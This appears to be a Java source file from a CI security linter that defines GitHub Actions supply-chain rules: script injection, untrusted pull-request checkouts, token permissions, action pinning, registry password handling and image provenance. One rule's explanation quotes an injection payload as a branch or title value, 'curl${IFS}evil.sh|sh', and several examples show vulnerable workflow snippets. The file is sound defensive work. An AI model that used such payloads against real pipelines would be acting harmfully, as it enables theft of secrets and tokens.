package io.gpukit.core.workflow;

import io.gpukit.core.policy.Rule;
import io.gpukit.core.source.SourceLocation;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Optional;
import java.util.Set;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/**
 * The supply-chain rules of the job that ships the image: it holds registry credentials and, often,
 * a token that can write, so what a pull request can make it run, which actions it trusts and what
 * it proves about the image matter as much as when it runs. Part of {@link WorkflowRules#ALL}.
 *
 * <p>Script injection and untrusted checkouts are hygiene for every workflow: a docs or lint
 * workflow on {@code pull_request_target} leaks the same secrets. Permissions, pinned actions, the
 * registry password and provenance judge the workflows and jobs that push an image (or hold
 * secrets), GPU or not: a pushed sidecar image reaches the same nodes.
 *
 * @since 0.1.0
 */
public final class ShippingRules {

  private ShippingRules() {}

  /**
   * Owners of actions trusted without a pinned commit: GitHub's own. gpukit.yaml has no key for it
   * yet; {@code workflow.trusted-action-owners} is the key it would read.
   */
  public static final Set<String> FIRST_PARTY_OWNERS = Set.of("actions", "github");

  private static final Pattern SECRETS = Pattern.compile("\\$\\{\\{[^}]*\\bsecrets\\s*(\\.|\\[)");
  private static final Pattern FULL_SHA = Pattern.compile("[0-9a-fA-F]{40}");

  /** The contexts that name the pull request's (or followed run's) head: its code, not the base's. */
  private static final Set<String> HEAD_CONTEXTS = Set.of(
      "github.head_ref",
      "github.event.pull_request.head.sha",
      "github.event.pull_request.head.ref",
      "github.event.pull_request.head.repo.full_name",
      "github.event.pull_request.merge_commit_sha",
      "github.event.workflow_run.head_sha",
      "github.event.workflow_run.head_branch",
      "github.event.workflow_run.head_repository.full_name");
  private static final Pattern PR_REF = Pattern.compile("refs/pull/");
  private static final Pattern GIT_FETCH = Pattern.compile("\\bgit\\s+(fetch|checkout|switch|pull|reset)\\b|\\bgh\\s+pr\\s+checkout\\b");

  private static final Pattern REGISTRY_LOGIN =
      Pattern.compile("(?i)\\b(docker|podman|buildah|skopeo|nerdctl|crane|oras|helm\\s+registry)\\s+(auth\\s+)?login\\b[^\\n;&|]*");
  private static final Pattern PASSWORD_OPTION = Pattern.compile("(?:^|\\s)(-p|--password)(?:=|\\s+)(\\$\\{\\{.*?}}|\\S+)");

  private static final Set<String> ATTEST_ACTIONS = Set.of(
      "actions/attest-build-provenance", "actions/attest-sbom", "actions/attest");
  private static final Pattern SIGN_RUN = Pattern.compile(
      "(?i)\\bcosign\\s+(sign|attest)\\b|\\bnotation\\s+sign\\b"
          + "|\\bdocker\\s+(buildx\\s+)?(build|bake)\\b[^\\n]*\\s--(provenance|sbom|attest)(?![=\\s]+(false|0)\\b)");
  /** Jobs that publish packages other than images may need packages: write. */
  private static final Pattern PUBLISH_RUN = Pattern.compile(
      "(?i)\\b(mvnw?|gradlew?)\\b[^\\n]*\\b(deploy|publish)\\b|\\b(npm|yarn|pnpm)\\s+publish\\b|\\bhelm\\s+push\\b"
          + "|\\boras\\s+push\\b|\\bgh\\s+(release|api)\\b|\\bcosign\\b");

  /** Untrusted text expanded into a script. */
  public static final Rule<Workflow> UNTRUSTED_INPUT_IN_SCRIPT =
      Rule.<Workflow>define("workflow/untrusted-input-in-script")
          .error()
          .describedAs("a run: script or a script: input should not expand text a pull request or issue author writes")
          .because(
              "${{ }} is replaced before the shell (or github-script) reads the script, so a pull request titled"
                  + " or branched `a\";curl${IFS}evil.sh|sh;\"` runs as code, with the job's secrets and token."
                  + " Untrusted, as in actionlint's expression-injection check: github.head_ref, the pull request's,"
                  + " issue's, comment's, review's and discussion's title and body, head ref and label, commit"
                  + " messages and authors, page names, label names, and the same of a followed workflow_run."
                  + " Not injection: the value passed through env: and read as \"$VAR\", a whole object"
                  + " (toJSON(github.event)), a value inside contains/startsWith/endsWith, and conditions (if:)."
                  + " Hygiene for every workflow: a lint job leaks the same token.")
          .relatedTo("actionlint expression injection (untrusted inputs), zizmor template-injection,"
              + " OpenSSF Scorecard Dangerous-Workflow (script injection)")
          .example(
              "- run: echo \"Testing ${{ github.head_ref }}\"",
              "- run: echo \"Testing $HEAD_REF\"\n  env:\n    HEAD_REF: ${{ github.head_ref }}")
          .checkedBy(
              (wf, findings) -> {
                for (Job job : wf.jobs()) {
                  for (Step step : job.steps()) {
                    step.run().ifPresent(run -> {
                      for (String context : UntrustedInput.in(run)) {
                        findings.report(step.location(),
                            job.describe() + " expands untrusted '" + context + "' into the run: script of step '"
                                + step.describe() + "'",
                            envHint(context, false));
                      }
                    });
                    for (Entry e : step.with()) {
                      if (e.key().equals("script")) {
                        for (String context : UntrustedInput.in(e.value())) {
                          findings.report(e.location(),
                              job.describe() + " expands untrusted '" + context + "' into the script: of step '"
                                  + step.describe() + "'",
                              envHint(context, true));
                        }
                      }
                    }
                  }
                }
              });

  /**
   * On {@code pull_request_target} or {@code workflow_run}, a job that checks out the pull
   * request's head and then runs code (a {@code run:} step or a local action) while it holds
   * secrets or a token that can write.
   */
  public static final Rule<Workflow> UNTRUSTED_CHECKOUT =
      Rule.<Workflow>define("workflow/untrusted-checkout")
          .error()
          .describedAs("a pull_request_target or workflow_run job should not run the pull request's code while holding"
              + " secrets or write permissions")
          .because(
              "pull_request_target and workflow_run run in the base repository with its secrets and a token that can"
                  + " write; checking out the pull request's head (ref: ${{ github.event.pull_request.head.sha }},"
                  + " github.head_ref, workflow_run.head_sha, refs/pull/…) and then running a script or a local action"
                  + " runs the author's code (a build script, a Makefile, ./.github/actions from the fork) with them."
                  + " A job without 'permissions' counts as holding a token that writes, the default of older"
                  + " repositories. Fine: a job, or a job it needs, whose 'if' admits only the repository's own code"
                  + " (github.event.workflow_run.event == 'push', head.repo.full_name == github.repository); a"
                  + " branches filter is not enough, a fork's pull request from its own main has head_branch main."
                  + " The file is judged alone: a workflow_run that follows only push workflows writes that guard,"
                  + " which keeps it safe when they gain a pull_request trigger. Hygiene for every workflow.")
          .relatedTo("OpenSSF Scorecard Dangerous-Workflow (untrusted code checkout), zizmor dangerous-triggers,"
              + " CodeQL actions/untrusted-checkout")
          .example(
              "on: pull_request_target\n…\n- uses: actions/checkout@v4\n  with:\n    ref: ${{ github.event.pull_request.head.sha }}\n"
                  + "- run: make test",
              "on: pull_request\n…\n- uses: actions/checkout@v4\n- run: make test")
          .checkedBy(
              (wf, findings) -> {
                Optional<Trigger> trigger = wf.triggers().stream()
                    .filter(t -> t.event().equals("pull_request_target") || t.event().equals("workflow_run"))
                    .findFirst();
                if (trigger.isEmpty()) {
                  return;
                }
                for (Job job : wf.jobs()) {
                  Optional<String> holds = holds(wf, job);
                  if (holds.isEmpty() || refusesForks(wf, job)) {
                    continue;
                  }
                  for (Step checkout : job.steps()) {
                    if (!checksOutHead(checkout)) {
                      continue;
                    }
                    Optional<Step> runs = job.steps().stream()
                        .filter(s -> s.index() > checkout.index())
                        .filter(s -> s.run().isPresent() || s.uses().map(u -> u.strip().startsWith("./")).orElse(false))
                        .findFirst();
                    if (runs.isPresent()) {
                      findings.report(checkout.location(),
                          job.describe() + " runs on " + trigger.get().event() + ", checks out the pull request's head and"
                              + " then runs it (step '" + runs.get().describe() + "' at " + lineOf(runs.get().location(), wf.path())
                              + ") while it holds " + holds.get(),
                          trigger.get().isWorkflowRun()
                              ? "add \"if: github.event.workflow_run.event == 'push'\" to " + job.describe()
                                  + " (or a job it needs), or run the checked-out code in a job without secrets and with"
                                  + " 'permissions: {contents: read}'"
                              : "build and test the pull request's code on 'pull_request' (no secrets, a read-only token);"
                                  + " keep pull_request_target for steps that run no checked-out code");
                      break;
                    }
                  }
                }
              });

  /** Write scopes only where they are needed, and a read-only default for the workflow. */
  public static final Rule<Workflow> TOKEN_PERMISSIONS =
      Rule.<Workflow>define("workflow/token-permissions")
          .warning()
          .describedAs("a workflow that pushes an image should default to a read-only token and grant packages: write"
              + " and id-token: write only to the job that pushes or signs")
          .because(
              "Without a top-level 'permissions' every job gets the repository's default token, which can write to"
                  + " the repository in older repositories and organizations; a top-level packages: write or id-token:"
                  + " write lets every job, the test job that runs the pull request's code included, publish images or"
                  + " mint identity tokens for the registry. Judges the workflows that push an image, which hold registry"
                  + " credentials (OpenSSF Scorecard's Token-Permissions asks it of every workflow); a default"
                  + " matters only to the jobs that set no 'permissions' of their own.")
          .relatedTo("OpenSSF Scorecard Token-Permissions, zizmor excessive-permissions")
          .example(
              "permissions:\n  packages: write\njobs:\n  test: …\n  push: …",
              "permissions:\n  contents: read\njobs:\n  test: …\n  push:\n    permissions:\n      contents: read\n      packages: write")
          .checkedBy(
              (wf, findings) -> {
                List<Job> pushers = wf.jobs().stream().filter(JobTraits::pushesImage).toList();
                if (pushers.isEmpty()) {
                  return;
                }
                String pusher = pushers.get(0).describe();
                Optional<Permissions> top = wf.permissions();
                List<Job> inheriting = wf.jobs().stream().filter(j -> j.permissions().isEmpty()).toList();
                if (top.isEmpty() && !inheriting.isEmpty()) {
                  findings.report(wf.location(),
                      "the workflow pushes an image but sets no top-level 'permissions': " + inheriting.get(0).describe()
                          + (inheriting.size() > 1 ? " and " + (inheriting.size() - 1) + " more get" : " gets")
                          + " the repository's default token, which may write",
                      "add 'permissions: {contents: read}' at the top, and grant 'packages: write' on " + pusher + " only");
                } else if (top.isPresent()) {
                  List<String> writes = writes(top.get());
                  Optional<Job> needless = inheriting.stream().filter(j -> !ships(j) && !publishesPackages(j)).findFirst();
                  if (!writes.isEmpty() && needless.isPresent()) {
                    findings.report(top.get().location(),
                        "the top-level permissions grant " + String.join(", ", writes) + " to every job that sets none, "
                            + needless.get().describe() + " included, which neither pushes nor signs",
                        "set 'permissions: {contents: read}' at the top and move " + String.join(", ", writes)
                            + " to " + pusher);
                  }
                }
                for (Job job : wf.jobs()) {
                  if (job.permissions().isEmpty() || ships(job)) {
                    continue;
                  }
                  Permissions p = job.permissions().get();
                  List<String> registry = writes(p).stream()
                      .filter(w -> w.startsWith("packages") || w.startsWith("id-token") || w.startsWith("write-all"))
                      .toList();
                  if (!registry.isEmpty() && !publishesPackages(job)) {
                    findings.report(p.location(),
                        job.describe() + " grants " + String.join(", ", registry) + " but does not push or sign the image",
                        "remove " + String.join(", ", registry) + " from " + job.describe() + " (" + pusher
                            + " pushes the image)");
                  }
                }
              });

  /** Third-party actions pinned to a commit where the job holds secrets or pushes. */
  public static final Rule<Workflow> ACTION_PINNED =
      Rule.<Workflow>define("workflow/action-pinned")
          .warning()
          .describedAs("a third-party action in a job that holds secrets or pushes an image should be pinned to a full"
              + " commit SHA")
          .because(
              "A tag such as @v3 is moved by whoever controls the action's repository: a compromised or sold action"
                  + " (tj-actions/changed-files, March 2025) then runs with the registry credentials and pushes what it"
                  + " likes. A 40-hex commit cannot move; Dependabot and Renovate update pinned SHAs with their tag as a"
                  + " comment. GitHub's own actions (actions/*, github/*) are exempt, as is a job that holds no secret"
                  + " and pushes nothing.")
          .relatedTo("OpenSSF Scorecard Pinned-Dependencies, zizmor unpinned-uses")
          .example(
              "- uses: docker/login-action@v3\n  with:\n    password: ${{ secrets.GITHUB_TOKEN }}",
              "- uses: docker/login-action@74a5d142397b4f367a81961eba4e8cd7edddf772 # v3.4.0")
          .checkedBy(
              (wf, findings) -> {
                for (Job job : wf.jobs()) {
                  Optional<String> why = JobTraits.pushesImage(job) ? Optional.of("pushes an image")
                      : secretUsed(job).map(s -> "holds " + s);
                  if (why.isEmpty()) {
                    continue;
                  }
                  for (Step step : job.steps()) {
                    Optional<String> uses = step.uses().map(String::strip);
                    if (uses.isEmpty() || uses.get().startsWith("./") || uses.get().startsWith("docker://")) {
                      continue;
                    }
                    String action = uses.get();
                    int at = action.indexOf('@');
                    String ref = at < 0 ? "" : action.substring(at + 1);
                    String owner = action.contains("/") ? action.substring(0, action.indexOf('/')) : action;
                    if (FIRST_PARTY_OWNERS.contains(owner.toLowerCase(Locale.ROOT)) || FULL_SHA.matcher(ref).matches()) {
                      continue;
                    }
                    String name = at < 0 ? action : action.substring(0, at);
                    findings.report(step.location(),
                        job.describe() + " " + why.get() + " and runs the third-party action '" + action
                            + "', which is not pinned to a commit",
                        "uses: " + name + "@<the 40-hex commit of " + (ref.isEmpty() ? "the release" : ref) + "> # "
                            + (ref.isEmpty() ? "the release" : ref));
                  }
                }
              });

  /** A registry password on the command line. */
  public static final Rule<Workflow> REGISTRY_PASSWORD_STDIN =
      Rule.<Workflow>define("workflow/registry-password-stdin")
          .warning()
          .describedAs("a registry login should read its password from stdin, not from the command line")
          .because(
              "'docker login -p ${{ secrets.X }}' puts the password in the process list of the runner, in a shell"
                  + " trace (set -x) and, expanded by ${{ }}, in the script file on disk; the docker CLI warns about it"
                  + " itself. --password-stdin reads it from a pipe. Judged in every workflow.")
          .relatedTo("docker login's own warning (\"Using --password via the CLI is insecure\"), zizmor secrets-outside-env")
          .example(
              "- run: docker login ghcr.io -u ${{ github.actor }} -p ${{ secrets.GITHUB_TOKEN }}",
              "- run: echo \"$TOKEN\" | docker login ghcr.io -u ${{ github.actor }} --password-stdin\n"
                  + "  env:\n    TOKEN: ${{ secrets.GITHUB_TOKEN }}")
          .checkedBy(
              (wf, findings) -> {
                for (Job job : wf.jobs()) {
                  for (Step step : job.steps()) {
                    if (step.run().isEmpty()) {
                      continue;
                    }
                    Matcher login = REGISTRY_LOGIN.matcher(JobTraits.joined(step.run().get()));
                    while (login.find()) {
                      Matcher option = PASSWORD_OPTION.matcher(login.group());
                      if (option.find()) {
                        String tool = login.group(1).toLowerCase(Locale.ROOT);
                        findings.report(step.location(),
                            job.describe() + " passes the registry password on the command line ('" + tool + " login … "
                                + option.group().strip() + "')",
                            "echo \"$REGISTRY_PASSWORD\" | " + tool + " login <registry> -u <user> --password-stdin"
                                + " (with REGISTRY_PASSWORD under the step's env:)");
                        break;
                      }
                    }
                  }
                }
              });

  /** A push with no provenance, SBOM attestation or signature. */
  public static final Rule<Workflow> PUSH_PROVENANCE =
      Rule.<Workflow>define("workflow/push-provenance")
          .info()
          .describedAs("a workflow that pushes an image should attest its provenance or SBOM, or sign it")
          .because(
              "A GPU node (or an admission policy) can only tell the image CI built from one pushed with a leaked"
                  + " token by a signature or a provenance attestation; an SBOM says which CUDA and libraries it ships."
                  + " Counted: docker/build-push-action or docker/bake-action with a provenance or sbom input,"
                  + " docker buildx build --provenance/--sbom/--attest, cosign sign or attest, notation sign,"
                  + " actions/attest-build-provenance and actions/attest-sbom, anywhere in the workflow.")
          .relatedTo("OpenSSF Scorecard Signed-Releases, SLSA build provenance")
          .example(
              "- uses: docker/build-push-action@v6\n  with:\n    push: true",
              "- uses: docker/build-push-action@v6\n  with:\n    push: true\n    provenance: mode=max\n    sbom: true")
          .checkedBy(
              (wf, findings) -> {
                if (wf.jobs().stream().flatMap(j -> j.steps().stream()).anyMatch(ShippingRules::attests)) {
                  return;
                }
                for (Job job : wf.jobs()) {
                  List<Step> pushes = JobTraits.pushSteps(job);
                  if (!pushes.isEmpty()) {
                    findings.report(pushes.get(0).location(),
                        job.describe() + " pushes the image without a provenance or SBOM attestation or a signature",
                        pushes.get(0).action().filter(a -> a.startsWith("docker/")).isPresent()
                            ? "add 'provenance: mode=max' and 'sbom: true' to the step's with:"
                            : "add a step 'uses: actions/attest-build-provenance@v2' (or 'cosign sign') with the pushed digest");
                  }
                }
              });

  /** The rules of this class, in a stable order. */
  static final List<Rule<Workflow>> ALL = List.of(
      UNTRUSTED_INPUT_IN_SCRIPT, UNTRUSTED_CHECKOUT, TOKEN_PERMISSIONS, ACTION_PINNED, REGISTRY_PASSWORD_STDIN,
      PUSH_PROVENANCE);

  private static String envHint(String context, boolean javascript) {
    String var = context.replaceAll("^github\\.(event\\.)?", "").replaceAll("[^A-Za-z0-9]+", "_")
        .replaceAll("^_|_$", "").toUpperCase(Locale.ROOT);
    return "pass it through env: 'env: {" + var + ": ${{ " + context + " }}}' and use "
        + (javascript ? "process.env." + var : "\"$" + var + "\"") + " in the script";
  }

  /** What a job holds that a pull request's code must not get: a secret, or a token that can write. */
  private static Optional<String> holds(Workflow wf, Job job) {
    Optional<String> secret = secretUsed(job);
    if (secret.isPresent()) {
      return secret;
    }
    Optional<Permissions> p = job.permissions().or(wf::permissions);
    if (p.isEmpty()) {
      return Optional.of("the default token, which may write (no 'permissions')");
    }
    List<String> writes = writes(p.get());
    return writes.isEmpty() ? Optional.empty() : Optional.of("a token with " + String.join(", ", writes));
  }

  /** The first secret a job's steps or env read, as {@code secrets.X}. */
  static Optional<String> secretUsed(Job job) {
    List<String> texts = new ArrayList<>();
    job.env().forEach(e -> texts.add(e.value()));
    job.with().forEach(e -> texts.add(e.value()));
    for (Step s : job.steps()) {
      s.env().forEach(e -> texts.add(e.value()));
      s.with().forEach(e -> texts.add(e.value()));
      s.run().ifPresent(texts::add);
    }
    Pattern name = Pattern.compile("\\bsecrets\\s*(?:\\.\\s*([\\w-]+)|\\[\\s*'([^']+)'\\s*])");
    for (String t : texts) {
      if (SECRETS.matcher(t).find()) {
        Matcher m = name.matcher(t);
        if (m.find()) {
          return Optional.of("secrets." + (m.group(1) != null ? m.group(1) : m.group(2)));
        }
      }
    }
    return Optional.empty();
  }

  /** The write grants of a permissions setting, as {@code packages: write} or {@code write-all}. */
  private static List<String> writes(Permissions p) {
    if (p.all().isPresent()) {
      return p.all().get().strip().equals("write-all") ? List.of("write-all") : List.of();
    }
    return p.scopes().stream()
        .filter(e -> e.value().strip().equals("write"))
        .map(e -> e.key() + ": write")
        .toList();
  }

  /** Whether a job pushes, signs or attests the image: it may need packages: write and id-token: write. */
  private static boolean ships(Job job) {
    return JobTraits.pushesImage(job) || job.steps().stream().anyMatch(ShippingRules::attests);
  }

  private static boolean publishesPackages(Job job) {
    return job.isReusableWorkflowCall()
        || job.steps().stream().anyMatch(s -> s.run().map(r -> PUBLISH_RUN.matcher(JobTraits.joined(r)).find()).orElse(false)
            || s.uses().map(u -> u.toLowerCase(Locale.ROOT).contains("publish") || u.contains("release")).orElse(false));
  }

  /** Whether a step attests or signs what is pushed. */
  private static boolean attests(Step step) {
    Optional<String> action = step.action().map(a -> a.toLowerCase(Locale.ROOT));
    if (action.isPresent() && ATTEST_ACTIONS.contains(action.get())) {
      return true;
    }
    if (action.filter(a -> a.equals("docker/build-push-action") || a.equals("docker/bake-action")).isPresent()) {
      for (String input : List.of("provenance", "sbom")) {
        Optional<String> v = step.input(input).map(String::strip);
        if (v.isPresent() && !v.get().isEmpty() && !v.get().equalsIgnoreCase("false")) {
          return true;
        }
      }
    }
    return step.run().map(r -> SIGN_RUN.matcher(JobTraits.joined(r)).find()).orElse(false);
  }

  /**
   * Conditions that keep a fork's code out: the followed run was a push (or another event of the
   * repository itself), or the head repository is this one. A branch filter is no such condition: a
   * fork's pull request from its own {@code main} has head_branch {@code main}.
   */
  private static final Pattern NO_FORKS = Pattern.compile(
      "(?i)workflow_run\\.event\\s*==\\s*'(push|schedule|release|workflow_dispatch|merge_group)'"
          + "|(head_repository|head\\.repo)\\.full_name\\s*==\\s*github\\.repository\\b"
          + "|github\\.repository\\s*==\\s*github\\.event\\.(workflow_run\\.head_repository|pull_request\\.head\\.repo)\\.full_name"
          + "|head\\.repo\\.fork\\s*==\\s*false|!\\s*github\\.event\\.pull_request\\.head\\.repo\\.fork");

  /** Whether the job, or a job it needs, runs only for the repository's own code ({@link #NO_FORKS}). */
  private static boolean refusesForks(Workflow wf, Job job) {
    List<Job> gates = new ArrayList<>();
    gates.add(job);
    wf.dependenciesOf(job).forEach(id -> wf.job(id).ifPresent(gates::add));
    return gates.stream().anyMatch(j -> j.condition().map(c -> NO_FORKS.matcher(c).find()).orElse(false));
  }

  /** Whether a checkout or a git command takes the pull request's head. */
  private static boolean checksOutHead(Step step) {
    if (step.action().map(a -> a.equalsIgnoreCase("actions/checkout")).orElse(false)) {
      for (String input : List.of("ref", "repository")) {
        Optional<String> v = step.input(input);
        if (v.isPresent() && (UntrustedInput.expands(v.get(), HEAD_CONTEXTS) || PR_REF.matcher(v.get()).find())) {
          return true;
        }
      }
      return false;
    }
    return step.run().map(r -> {
      String joined = JobTraits.joined(r);
      return joined.matches("(?s).*\\bgh\\s+pr\\s+checkout\\b.*")
          || GIT_FETCH.matcher(joined).find() && (UntrustedInput.expands(joined, HEAD_CONTEXTS) || PR_REF.matcher(joined).find());
    }).orElse(false);
  }

  private static String lineOf(SourceLocation at, Path checked) {
    return at.file().equals(checked) ? "line " + at.line() : SourceLocation.renderPath(at.file()) + ":" + at.line();
  }
}
